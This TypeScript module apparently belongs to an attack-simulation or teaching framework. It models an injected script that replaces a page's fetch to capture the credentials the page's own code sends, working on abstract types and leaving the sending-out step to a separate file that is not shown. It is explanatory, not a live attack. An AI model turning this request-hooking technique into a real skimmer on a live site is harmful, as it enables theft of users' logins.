/** Replacing fetch in the page: what its own code sends passes through the injected script. Not: what becomes of it (take-away.ts). */
import type { Hands, InjectedPage } from './attack';
import type { Stolen } from './stolen';

/** @returns the credentials that the page's code handed over, the newest first */
export const hookFetch = async (hands: Hands, page: InjectedPage): Promise<Stolen[]> => {
  hands.note('The injected script replaces fetch, so it sees everything that the page’s code sends.');
  const caught: Stolen[] = [];
  const hooked: InjectedPage = {
    ...page,
    // What the browser adds by itself, a cookie, is not among what the code hands over.
    send: (method, url, fields = [], ...rest) => {
      caught.unshift(...hands.known.inRequest({ fields }));
      return page.send(method, url, fields, ...rest);
    },
  };
  await hands.mode.script.request(hooked, 'GET', '/orders');
  return caught;
};
